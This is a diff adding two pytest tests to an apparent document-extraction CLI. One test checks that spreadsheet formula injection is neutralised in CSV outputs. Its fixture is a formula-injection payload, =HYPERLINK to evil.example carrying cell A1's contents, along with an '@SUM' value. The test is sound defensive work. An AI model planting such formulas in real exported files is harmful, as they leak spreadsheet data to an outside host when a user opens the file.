@@ -75,3 +75,29 @@ def test_a_twenty_digit_total_is_said_unread_and_every_format_is_written(tmp_pat
     findings = _strict_json_lines(out / "findings.jsonl")
     assert {f["kind"] for f in findings} == {"unchecked"}
     assert any("out of range" in f["detail"] for f in findings)
+
+
+def test_formula_like_texts_are_neutralised_in_history_outputs_too(tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?"&amp;A1,"查看")'
+    path = _draft(tmp_path / "draft.docx", ("地区生产总值增长7%。", hostile), ("县商务局", "@SUM(1+1)"))
+    out = tmp_path / "out"
+    assert main(["extract", str(path), "--out", str(out), "--jobs", "1", "--format", "json"]) == 0
+    assert main(["history", str(out)]) == 0
+    for name in ("history.csv", "laggards.csv"):
+        text = (out / name).read_text(encoding="utf-8-sig")
+        cells = [cell for line in text.splitlines() for cell in line.split(",")]
+        assert not any(cell.lstrip('"').startswith(("=", "@")) for cell in cells), name
+    history = pd.read_csv(out / "history.csv", encoding="utf-8-sig")
+    assert history["target"].str.startswith("'=HYPERLINK").any()
+    assert history["responsible_units"].str.startswith("'@SUM").any()
+    assert (history["completion_ratio"].dropna() <= 1).all()   # numbers stay numbers
+
+
+def test_a_symlink_loop_on_the_command_line_is_one_error_row_and_the_batch_goes_on(tmp_path, mini_pdf, capsys):
+    loop = tmp_path / "loop.pdf"
+    loop.symlink_to(loop)
+    out = tmp_path / "out"
+    assert main(["extract", str(loop), str(mini_pdf), "--out", str(out), "--jobs", "1"]) == 1
+    bulletins = pd.read_csv(out / "bulletins.csv", encoding="utf-8-sig")
+    assert list(bulletins["status"]) == ["error", "ok"]
+    assert "Traceback" not in capsys.readouterr().err
